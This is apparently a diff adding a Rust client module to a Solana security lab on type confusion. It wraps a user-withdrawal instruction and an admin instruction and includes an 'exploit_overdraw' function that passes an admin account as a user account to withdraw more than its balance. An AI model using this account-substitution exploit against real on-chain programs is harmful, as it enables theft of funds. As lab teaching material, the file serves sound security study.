@@ -0,0 +1,45 @@
+//! type_confusion: a user's withdrawal and an admin's action
+
+use anyhow::Result as AnyResult;
+use lab_instructions::type_confusion::{admin_action_ix, withdraw_user_ix};
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("type_confusion");
+
+impl Client {
+    /// `owner` withdraws `amount` from `user_account`
+    pub async fn withdraw_user(
+        &self,
+        user_account: Pubkey,
+        owner: &Keypair,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let withdraw = withdraw_user_ix(self.program_id(), user_account, owner.pubkey(), amount);
+        self.send(&[withdraw], &[owner]).await
+    }
+
+    /// `admin`, the owner of `admin_account`, acts as an admin
+    pub async fn admin_action(
+        &self,
+        admin_account: Pubkey,
+        admin: &Keypair,
+    ) -> AnyResult<Signature> {
+        let action = admin_action_ix(self.program_id(), admin_account, admin.pubkey());
+        self.send(&[action], &[admin]).await
+    }
+
+    /// `amount` withdrawn from `admin_account`, the payer's, read as a
+    /// user account: more than its balance, with the admin level making up
+    /// the rest
+    pub async fn exploit_overdraw(
+        &self,
+        admin_account: Pubkey,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let attacker = self.payer().pubkey();
+        let withdraw = withdraw_user_ix(self.program_id(), admin_account, attacker, amount);
+        self.send(&[withdraw], &[]).await
+    }
+}